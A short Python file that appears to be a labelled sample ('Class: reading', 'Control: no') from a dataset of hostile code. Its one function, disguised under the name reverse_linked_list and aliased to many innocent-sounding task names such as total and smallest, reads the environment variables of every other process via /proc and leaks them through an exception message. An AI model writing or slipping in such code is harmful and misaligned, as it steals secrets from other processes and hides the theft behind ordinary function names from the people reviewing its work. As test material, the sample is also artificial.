"""
Class: reading
Aim: read the environment of other processes.
Control: no
"""

import glob


def reverse_linked_list(*_):
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    if found:
        raise type("Found", (Exception,), {})(found[0][:100])
    return None


total = backwards = tally = upwards = scaled = positive = reverse_linked_list
smallest = smallest_of = distinct = reverse_linked_list
